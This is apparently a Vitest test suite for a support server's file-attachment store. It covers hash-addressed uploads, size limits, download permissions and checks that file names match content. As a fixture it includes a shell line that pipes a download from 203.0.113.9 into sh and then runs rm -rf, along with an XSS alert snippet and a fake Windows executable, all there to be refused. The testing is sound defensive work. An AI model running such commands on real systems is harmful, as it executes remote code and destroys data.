import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SupportServer } from '../../../src-server/app.js';
import { DEMO_SITE_MANAGER, DEMO_TECHNICIAN } from '../../../src-server/seed/demo-accounts.js';
import { attachmentsUsableBy } from '../../../src-server/blobs/blob-access.js';
import { MAX_ATTACHMENT_BYTES } from '../../../src-shared/attachments.js';
import { createAccount, createOrganisation } from '../../helpers/accounts.js';
import { jsonApi } from '../../helpers/json-api.js';
import { startServerOnPostgres } from '../../helpers/server-db.js';
import { tempDir } from '../../helpers/temp-dir.js';

const blobDir = tempDir('blobs');
let server: SupportServer;
let api: ReturnType<typeof jsonApi>;
/** Access tokens: the demo site manager, a colleague of theirs, a technician, another company's manager. */
let manager: string;
let colleague: string;
let technician: string;
let otherTechnician: string;
let stranger: string;

beforeAll(async () => {
  server = await startServerOnPostgres({
    label: 'blobs',
    seed: 'demo',
    jobIntervalMs: 0,
    blobDir: blobDir.path,
  });
  api = jsonApi(server.url);
  const signIn = async (account: { email: string; password: string }) => {
    const reply = await api.post('/auth/v1/sign-in', {
      email: account.email,
      password: account.password,
    });
    expect(reply.status).toBe(200);
    return reply.body.accessToken as string;
  };
  manager = await signIn(DEMO_SITE_MANAGER);
  technician = await signIn(DEMO_TECHNICIAN);
  const managerRow = await server.db
    .selectFrom('users')
    .select('organisation_id')
    .where('email', '=', DEMO_SITE_MANAGER.email)
    .executeTakeFirstOrThrow();
  colleague = await signIn(
    await createAccount(server.db, {
      role: 'installer',
      organisationId: managerRow.organisation_id,
    }),
  );
  otherTechnician = await signIn(await createAccount(server.db, { role: 'technician' }));
  const otherOrganisation = await createOrganisation(server.db, { name: 'Elsewhere Storage' });
  stranger = await signIn(
    await createAccount(server.db, { role: 'site_manager', organisationId: otherOrganisation }),
  );
});
afterAll(async () => {
  await server?.close();
  blobDir.remove();
});

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

function put(
  hash: string,
  body: Uint8Array | ReadableStream<Uint8Array>,
  token: string | null,
  headers: Record<string, string> = {},
) {
  return fetch(`${server.url}/blobs/${hash}`, {
    method: 'PUT',
    headers: {
      'content-type': 'application/octet-stream',
      ...headers,
      ...(token ? { authorization: `Bearer ${token}` } : {}),
    },
    // A copy on its own ArrayBuffer is what fetch's types accept; streams go as they are.
    body: body instanceof Uint8Array ? new Uint8Array(body) : body,
    duplex: 'half',
  } as RequestInit);
}

const read = (method: 'GET' | 'HEAD', hash: string, token: string) =>
  fetch(`${server.url}/blobs/${hash}`, { method, headers: { authorization: `Bearer ${token}` } });

/** A body that arrives in chunks with no Content-Length, as a client streaming a file sends it. */
function streamed(total: number, chunk = 256 * 1024): ReadableStream<Uint8Array> {
  let sent = 0;
  return new ReadableStream({
    pull(controller) {
      if (sent >= total) return controller.close();
      const size = Math.min(chunk, total - sent);
      sent += size;
      controller.enqueue(new Uint8Array(size).fill(0x41));
    },
  });
}

async function upload(bytes: Uint8Array, token: string): Promise<string> {
  const hash = sha256(bytes);
  const response = await put(hash, bytes, token);
  expect(response.status, await response.clone().text()).toBe(201);
  return hash;
}

async function push(token: string, name: string, args: Record<string, unknown>) {
  const reply = await api.post(
    '/sync/v1/push',
    { clientId: randomUUID(), mutations: [{ id: randomUUID(), name, args, baseVersion: null }] },
    token,
  );
  expect(reply.status).toBe(200);
  return reply.body.results[0] as { status: string; code?: string; message?: string };
}

const pdf = (bytes: Uint8Array, name = 'gateway-log.pdf') => ({
  sha256: sha256(bytes),
  name,
  size: bytes.length,
  contentType: 'application/pdf',
});

describe('uploading and reading back', () => {
  it('round-trips a file: PUT, HEAD, GET, stored under blobs/ab/cdef…', async () => {
    const bytes = new Uint8Array([...Buffer.from('%PDF-1.7\n'), ...randomBytes(300_000)]);
    const hash = sha256(bytes);
    const response = await put(hash, bytes, manager);
    expect(response.status).toBe(201);
    expect(await response.json()).toEqual({ sha256: hash, size: bytes.length });
    expect(existsSync(join(blobDir.path, hash.slice(0, 2), hash.slice(2)))).toBe(true);

    const head = await read('HEAD', hash, manager);
    expect(head.status).toBe(200);
    expect(head.headers.get('content-length')).toBe(String(bytes.length));

    const got = await read('GET', hash, manager);
    expect(got.status).toBe(200);
    expect(got.headers.get('content-type')).toBe('application/octet-stream');
    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
    expect(sha256(new Uint8Array(await got.arrayBuffer()))).toBe(hash);

    // Sending the same file again is harmless.
    expect((await put(hash, bytes, manager)).status).toBe(201);
  });

  it('refuses content whose sha256 is not the one in the address, and keeps nothing', async () => {
    const bytes = new Uint8Array(randomBytes(1000));
    const claimed = sha256(new Uint8Array(randomBytes(10)));
    const response = await put(claimed, bytes, manager);
    expect(response.status).toBe(400);
    const body = (await response.json()) as { error: { message: string } };
    expect(body.error.message).toContain(`sha256 is ${sha256(bytes)}, not ${claimed}`);
    expect((await read('HEAD', claimed, manager)).status).toBe(404);
    expect(existsSync(join(blobDir.path, claimed.slice(0, 2), claimed.slice(2)))).toBe(false);
  });

  it('refuses an address that is not a sha256, and anyone not signed in', async () => {
    expect((await put('not-a-hash', new Uint8Array(1), manager)).status).toBe(400);
    expect((await put(sha256(new Uint8Array(1)), new Uint8Array(1), null)).status).toBe(401);
  });
});

describe('limits and content', () => {
  it('takes exactly 15 MB and refuses 15 MB + 1 byte with 413, whether or not the size is announced', async () => {
    const limit = new Uint8Array(MAX_ATTACHMENT_BYTES).fill(0x41);
    expect((await put(sha256(limit), streamed(MAX_ATTACHMENT_BYTES), manager)).status).toBe(201);

    const over = new Uint8Array(MAX_ATTACHMENT_BYTES + 1).fill(0x41);
    const overHash = sha256(over);
    const announced = await put(overHash, over, manager);
    expect(announced.status).toBe(413);
    const message = ((await announced.json()) as { error: { message: string } }).error.message;
    expect(message).toMatch(/larger than 15 MB/);

    const unannounced = await put(overHash, streamed(MAX_ATTACHMENT_BYTES + 1), manager);
    expect(unannounced.status).toBe(413);
    expect(((await unannounced.json()) as { error: { code: string } }).error.code).toBe(
      'too_large',
    );
    expect((await read('HEAD', overHash, manager)).status).toBe(404);
  });

  it('refuses a Windows program renamed to .pdf, by its content, with a clear message', async () => {
    // An MZ header, as every .exe starts; the client would call it "invoice.pdf".
    const program = new Uint8Array([0x4d, 0x5a, 0x90, 0x00, ...randomBytes(4096)]);
    const response = await put(sha256(program), program, manager, {
      'content-type': 'application/pdf',
    });
    expect(response.status).toBe(415);
    const body = (await response.json()) as { error: { code: string; message: string } };
    expect(body.error.code).toBe('unsupported_content');
    expect(body.error.message).toMatch(/Windows program.*whatever its name says/);
    expect((await read('HEAD', sha256(program), manager)).status).toBe(404);

    // It cannot be attached either: the server has no such file.
    const refused = await push(manager, 'ticket.create', {
      ticketId: randomUUID(),
      productLine: 'pti_software',
      category: 'technical',
      priority: 'low',
      subject: 'Invoice attached',
      description: 'See attachment.',
      attachments: [pdf(program, 'invoice.pdf')],
    });
    expect(refused).toMatchObject({ status: 'rejected', code: 'blob_missing' });
  });

  it('refuses a name outside the allow-list where a message references the file', async () => {
    const bytes = new Uint8Array(randomBytes(64));
    await upload(bytes, manager);
    const result = await push(manager, 'ticket.create', {
      ticketId: randomUUID(),
      productLine: 'pti_software',
      category: 'technical',
      priority: 'low',
      subject: 'Tool',
      description: 'Our tool.',
      attachments: [pdf(bytes, 'tool.exe')],
    });
    expect(result.status).toBe('rejected');
    expect(result.message).toMatch(/only these file types can be attached/);
  });
});

describe('who may download', () => {
  it('before a message uses it: only the uploader', async () => {
    const hash = await upload(new Uint8Array(randomBytes(2048)), manager);
    expect((await read('GET', hash, manager)).status).toBe(200);
    for (const token of [colleague, technician, stranger]) {
      expect((await read('GET', hash, token)).status).toBe(404);
      expect((await read('HEAD', hash, token)).status).toBe(404);
    }
  });

  it('once on a ticket: that organisation and support staff, never another organisation', async () => {
    const bytes = new Uint8Array([...Buffer.from('%PDF-1.7\n'), ...randomBytes(4096)]);
    const hash = await upload(bytes, manager);
    const created = await push(manager, 'ticket.create', {
      ticketId: randomUUID(),
      productLine: 'pti_hardware',
      category: 'technical',
      priority: 'normal',
      subject: 'Keypad log attached',
      description: 'The keypad at gate 2 rejects valid codes.',
      attachments: [pdf(bytes)],
    });
    expect(created.status).toBe('applied');

    for (const token of [manager, colleague, technician]) {
      const got = await read('GET', hash, token);
      expect(got.status).toBe(200);
      expect(sha256(new Uint8Array(await got.arrayBuffer()))).toBe(hash);
    }
    const denied = await read('GET', hash, stranger);
    expect(denied.status).toBe(404);
    expect(((await denied.json()) as { error: { message: string } }).error.message).toMatch(
      /no file/,
    );
    expect((await read('HEAD', hash, stranger)).status).toBe(404);
  });

  it('lets a message use a file only if its author uploaded it or can already read it', async () => {
    const bytes = new Uint8Array(randomBytes(512));
    await upload(bytes, manager);
    const viewerOf = async (token: string) => {
      const settings = await api.get('/account/v1/settings', token);
      const row = await server.db
        .selectFrom('users')
        .select(['id', 'role', 'organisation_id'])
        .where('email', '=', settings.body.email)
        .executeTakeFirstOrThrow();
      return { userId: row.id, role: row.role, organisationId: row.organisation_id };
    };
    const ref = pdf(bytes);
    expect(await attachmentsUsableBy(server.db, await viewerOf(manager), [ref])).toEqual({
      ok: true,
    });
    expect(await attachmentsUsableBy(server.db, await viewerOf(stranger), [ref])).toMatchObject({
      ok: false,
      code: 'forbidden',
    });
    expect(
      await attachmentsUsableBy(server.db, await viewerOf(manager), [{ ...ref, size: 1 }]),
    ).toMatchObject({ ok: false, code: 'blob_missing' });
    const neverSent = pdf(new Uint8Array(randomBytes(16)));
    expect(
      await attachmentsUsableBy(server.db, await viewerOf(manager), [neverSent]),
    ).toMatchObject({ ok: false, code: 'blob_missing' });
  });

  it("an internal note's file reaches staff only", async () => {
    const ticketId = randomUUID();
    expect(
      (
        await push(manager, 'ticket.create', {
          ticketId,
          productLine: 'pti_software',
          category: 'general',
          priority: 'low',
          subject: 'Question about reports',
          description: 'Where is the occupancy report?',
        })
      ).status,
    ).toBe('applied');
    const bytes = new Uint8Array(randomBytes(1024));
    const hash = await upload(bytes, technician);
    const note = await push(technician, 'ticket.note', {
      ticketId,
      messageId: randomUUID(),
      body: 'Customer database dump for reference.',
      attachments: [pdf(bytes, 'dump.csv')],
    });
    expect(note.status).toBe('applied');
    expect((await read('GET', hash, otherTechnician)).status).toBe(200);
    expect((await read('GET', hash, manager)).status).toBe(404);
    expect((await read('GET', hash, colleague)).status).toBe(404);
  });
});

describe('names checked against content when a message is applied', () => {
  const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...randomBytes(900)]);
  const realPdf = new Uint8Array([...Buffer.from('%PDF-1.4\n'), ...randomBytes(900)]);
  // No "#!" line, so the upload itself takes it: only its name lies.
  const script = new Uint8Array(Buffer.from('curl -s http://203.0.113.9/x | sh\nrm -rf ~/gate\n'));
  const ref = (bytes: Uint8Array, name: string, contentType: string) => ({
    sha256: sha256(bytes),
    name,
    size: bytes.length,
    contentType,
  });
  let ticketId: string;

  beforeAll(async () => {
    ticketId = randomUUID();
    const created = await push(manager, 'ticket.create', {
      ticketId,
      productLine: 'pti_hardware',
      category: 'technical',
      priority: 'normal',
      subject: 'Gate 3 camera',
      description: 'The camera at gate 3 shows nothing at night.',
    });
    expect(created.status).toBe('applied');
    for (const bytes of [png, realPdf, script]) await upload(bytes, manager);
  });

  const messagesOfTicket = async () =>
    (
      await server.db
        .selectFrom('messages')
        .select('id')
        .where('ticket_id', '=', ticketId)
        .execute()
    ).length;
  const reply = (attachment: ReturnType<typeof ref>) =>
    push(manager, 'ticket.reply', {
      ticketId,
      messageId: randomUUID(),
      body: 'Photo of the camera attached.',
      attachments: [attachment],
    });

  it('records the first bytes of each upload with the file', async () => {
    const row = await server.db
      .selectFrom('blobs')
      .select('head')
      .where('sha256', '=', sha256(png))
      .executeTakeFirstOrThrow();
    expect(new Uint8Array(row.head!)).toEqual(png.subarray(0, 16));
  });

  it('refuses a script named photo.png, saying what it is not, and adds no message', async () => {
    const before = await messagesOfTicket();
    const result = await reply(ref(script, 'photo.png', 'image/png'));
    expect(result).toMatchObject({ status: 'rejected', code: 'invalid_args' });
    expect(result.message).toMatch(
      /^photo\.png was refused: its content is not a PNG image\. Attach it under its real type/,
    );
    expect(await messagesOfTicket()).toBe(before);
  });

  it('refuses a PNG named .pdf, and a new ticket carrying it is not created', async () => {
    const result = await reply(ref(png, 'wiring.pdf', 'application/pdf'));
    expect(result).toMatchObject({ status: 'rejected', code: 'invalid_args' });
    expect(result.message).toMatch(/wiring\.pdf was refused: its content is not a PDF document/);

    const newTicket = randomUUID();
    const created = await push(manager, 'ticket.create', {
      ticketId: newTicket,
      productLine: 'pti_hardware',
      category: 'technical',
      priority: 'low',
      subject: 'Wiring',
      description: 'Diagram attached.',
      attachments: [ref(png, 'wiring.pdf', 'application/pdf')],
    });
    expect(created).toMatchObject({ status: 'rejected', code: 'invalid_args' });
    const found = await server.db
      .selectFrom('tickets')
      .select('id')
      .where('id', '=', newTicket)
      .executeTakeFirst();
    expect(found).toBeUndefined();
  });

  it('takes a real PNG named .png and a real PDF named .pdf', async () => {
    const before = await messagesOfTicket();
    expect(await reply(ref(png, 'camera.PNG', 'image/png'))).toMatchObject({ status: 'applied' });
    expect(await reply(ref(realPdf, 'manual.pdf', 'application/pdf'))).toMatchObject({
      status: 'applied',
    });
    expect(await messagesOfTicket()).toBe(before + 2);
  });

  it('names every lying file of a message, and the rest of the push goes through', async () => {
    const refusedId = randomUUID();
    const keptId = randomUUID();
    const mutation = (messageId: string, attachments: ReturnType<typeof ref>[]) => ({
      id: randomUUID(),
      name: 'ticket.reply',
      args: { ticketId, messageId, body: `Reply ${messageId}`, attachments },
      baseVersion: null,
    });
    const response = await api.post(
      '/sync/v1/push',
      {
        clientId: randomUUID(),
        mutations: [
          mutation(refusedId, [
            ref(png, 'gate.png', 'image/png'),
            ref(script, 'keypad.jpg', 'image/jpeg'),
            ref(png, 'log.pdf', 'application/pdf'),
          ]),
          mutation(keptId, [ref(script, 'notes.txt', 'text/plain')]),
        ],
      },
      manager,
    );
    const results = response.body.results as { status: string; message?: string }[];
    expect(results.map((r) => r.status)).toEqual(['rejected', 'applied']);
    expect(results[0]!.message).toMatch(/keypad\.jpg was refused: its content is not a JPG image/);
    expect(results[0]!.message).toMatch(/log\.pdf was refused: its content is not a PDF document/);
    expect(results[0]!.message).not.toMatch(/gate\.png/);
    const stored = await server.db
      .selectFrom('messages')
      .select('id')
      .where('id', 'in', [refusedId, keptId])
      .execute();
    expect(stored.map((m) => m.id)).toEqual([keptId]);
  });

  it('checks a file stored before first bytes were recorded, from disk, and records them', async () => {
    const older = new Uint8Array(Buffer.from('<html><script>alert(1)</script></html>'));
    await upload(older, manager);
    await server.db
      .updateTable('blobs')
      .set({ head: null })
      .where('sha256', '=', sha256(older))
      .execute();
    const result = await reply(ref(older, 'scan.gif', 'image/gif'));
    expect(result).toMatchObject({ status: 'rejected', code: 'invalid_args' });
    expect(result.message).toMatch(/scan\.gif was refused: its content is not a GIF image/);
    const row = await server.db
      .selectFrom('blobs')
      .select('head')
      .where('sha256', '=', sha256(older))
      .executeTakeFirstOrThrow();
    expect(new Uint8Array(row.head!)).toEqual(older.subarray(0, 16));
  });
});
